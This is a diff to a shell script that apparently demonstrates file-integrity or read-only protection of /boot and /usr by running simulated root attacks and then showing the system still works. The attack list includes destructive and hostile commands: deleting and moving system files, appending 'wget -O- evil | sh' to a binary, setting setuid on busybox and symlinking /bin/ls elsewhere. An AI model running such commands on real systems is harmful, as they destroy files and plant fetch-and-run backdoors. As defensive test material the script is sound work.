@@ -9,7 +9,7 @@
 prompt='# ' bad='' good='' dim='' off=''
 if grep -q fim.color /proc/cmdline; then
 	esc=$(printf '\033')
-	prompt="$esc[1m# " bad="$esc[31m" good="$esc[32m" dim="$esc[36m" off="$esc[0m"
+	prompt="${esc}[1m# " bad="${esc}[31m" good="${esc}[32m" dim="${esc}[36m" off="${esc}[0m"
 fi
 
 show() {
@@ -74,7 +74,7 @@ attack() {
 
 # Everything that could have changed, names and contents.
 snapshot() {
-	ls -laR /boot /usr | grep -v '^total'
+	ls -laR /boot /usr
 	find /boot /usr -type f -exec md5sum {} +
 }
 
@@ -93,9 +93,9 @@ show ''
 show 'Attacks, as root:'
 show ''
 attack 'cd /sbin; touch file'
-attack 'rm /usr/bin/wget'
+attack 'rm /usr/bin/hello'
 attack 'mv /usr /usr2'
-attack 'echo "wget evil | sh" >> /usr/bin/login'
+attack 'echo "wget -O- evil | sh" >> /usr/bin/hello'
 attack 'chmod u+s /usr/bin/busybox'
 attack 'ln -sf /tmp/evil /bin/ls'
 attack 'mount -o bind /usr/sbin /mnt && rm /mnt/poweroff'
@@ -103,6 +103,7 @@ umount /mnt 2>/dev/null
 show ''
 show 'The system works as before:'
 show ''
+run 'hello'
 run 'ls /sbin | wc -l'
 run 'head -c 4 /usr/bin/busybox | tail -c 3; echo'
 run 'touch /root/notes && rm /root/notes && echo written and removed'
